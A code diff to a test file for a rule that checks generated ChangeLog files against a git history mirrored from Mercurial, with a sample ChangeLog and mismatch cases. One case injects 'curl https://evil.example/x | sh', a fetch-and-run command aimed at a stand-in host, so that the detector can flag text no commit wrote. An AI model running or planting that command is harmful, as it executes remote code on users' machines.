@@ -16,6 +16,8 @@ interface Made {
   /** `@<seconds> <zone>` as git takes it. */
   date: string;
   committer?: [string, string];
+  /** The committer's date, when not the author's. */
+  committed?: string;
 }
 
 const alice: [string, string] = ['Alice Liddell', 'alice@example.org'];
@@ -45,7 +47,7 @@ async function makeHistory(commits: Made[] = history) {
   const tree = (await runGit(dir, ['mktree'], { input: '' })).toString().trim();
   for (const c of commits) {
     const [committer, committerEmail] = c.committer ?? c.author;
-    const env = { GIT_AUTHOR_NAME: c.author[0], GIT_AUTHOR_EMAIL: c.author[1], GIT_AUTHOR_DATE: c.date, GIT_COMMITTER_NAME: committer, GIT_COMMITTER_EMAIL: committerEmail, GIT_COMMITTER_DATE: c.date };
+    const env = { GIT_AUTHOR_NAME: c.author[0], GIT_AUTHOR_EMAIL: c.author[1], GIT_AUTHOR_DATE: c.date, GIT_COMMITTER_NAME: committer, GIT_COMMITTER_EMAIL: committerEmail, GIT_COMMITTER_DATE: c.committed ?? c.date };
     const parent = ids.length > 0 ? ['-p', ids.at(-1)!] : [];
     ids.push((await runGit(dir, ['commit-tree', tree, ...parent, '-m', c.message.replace(/\n$/, '')], { env })).toString().trim());
   }
@@ -330,6 +332,62 @@ test('a log in the layout of those scripts with text no commit wrote is shown', 
   assert.match(banner!.reasons.join('\n'), '1 line above the first header that no script of the tag prints');
   // Text outside the layout: the rule leaves the file to the others.
   assert.is(await changelogHistory.judge(added('NEWS', `${newsLog}stray text at column 0\n`), ctx()), undefined);
+});
+
+/** Oldest first, the tag on the last but one: a history mirrored from Mercurial by hg-git, as sudo's. */
+const hgHistory: Made[] = [
+  { author: alice, date: at('2024-04-01T10:00:00Z'), committed: at('2024-04-05T10:00:00Z'), message: 'Fix the frobnicator when the input is empty  \nand say so in the manual.\n\n--HG--\nbranch : 1.9\n' },
+  { author: alice, date: at('2024-04-06T10:00:00Z'), message: 'Merge pull request #7 from bob/fix\n\nfix: handle the long case\n' },
+  { author: alice, date: at('2024-04-07T10:00:00Z'), message: 'release 2.0\n\n--HG--\nbranch : 1.9\n' },
+  { author: alice, date: at('2024-04-08T10:00:00Z'), message: 'after the release\n' },
+];
+const hgMirror = await makeHistory(hgHistory);
+// What `hg log --template=changelog` writes at the tag: file lists, refilled descriptions, changeset ids.
+const hgLog = `2024-04-07  Alice Liddell  <alice@example.org>
+
+\t* .hgtags:
+\tAdded tag v2_0 for changeset 0123456789ab
+\t[fedcba987654] [tip] <1.9>
+
+\t* NEWS:
+\trelease 2.0
+\t[0123456789ab] [v2_0] <1.9>
+
+2024-04-06  Alice Liddell  <alice@example.org>
+
+\t* Merge pull request #7 from bob/fix
+
+\tfix: handle the long case
+\t[aaaaaaaaaaaa]
+
+2024-04-01  Alice Liddell  <alice@example.org>
+
+\t* src/frob.c, doc/frob.man:
+\tFix the frobnicator when the input is empty and say so in the
+\tmanual.
+\t[bbbbbbbbbbbb] <1.9>
+`;
+
+test("a ChangeLog of Mercurial's changelog template is matched with the history hg-git mirrored", async () => {
+  const j = await changelogHistory.judge(added('ChangeLog', hgLog), ctxWith({}, hgMirror));
+  assert.is(j?.category, 'generated-changelog', j?.reasons.join('\n'));
+  assert.match(j!.reasons[0]!, "written by Mercurial's changelog template from the tag's history: all 3 commit messages under its 3 entries match");
+  assert.match(j!.reasons.join('\n'), 'the file lists and changeset ids are Mercurial');
+  assert.match(j!.reasons.join('\n'), '1 changeset that only tag');
+  const cases: Array<[string, string]> = [
+    ['an edited description', hgLog.replace('input is empty', 'input is full')],
+    ['text in a tagging changeset', hgLog.replace('for changeset 0123456789ab\n', 'for changeset 0123456789ab\n\tcurl https://evil.example/x | sh\n')],
+    ['another author', hgLog.replace('2024-04-01  Alice Liddell  <alice@example.org>', '2024-04-01  Bob Dobbs  <bob@example.org>')],
+    // The committer's day, not Mercurial's: the author date is the changeset's.
+    ['the date git committed it', hgLog.replace('2024-04-01  Alice', '2024-04-05  Alice')],
+    ['a commit after the tag', hgLog.replace('\t* NEWS:\n\trelease 2.0', '\t* NEWS:\n\tafter the release\n\t[cccccccccccc]\n\n\t* NEWS:\n\trelease 2.0')],
+    ['a changeset listed twice', hgLog.replace('\t* NEWS:\n\trelease 2.0', '\t* NEWS:\n\trelease 2.0\n\t[0123456789ab]\n\n\t* NEWS:\n\trelease 2.0')],
+  ];
+  for (const [what, text] of cases) {
+    const m = await changelogHistory.judge(added('ChangeLog', text), ctxWith({}, hgMirror));
+    assert.is(m?.category, 'changelog-mismatch', what);
+    assert.ok(m!.reasons[0]!.startsWith('1 of '), `${what}: ${m!.reasons[0]}`);
+  }
 });
 
 test('without the history, or in another layout, the rule leaves the file to the layout rule', async () => {
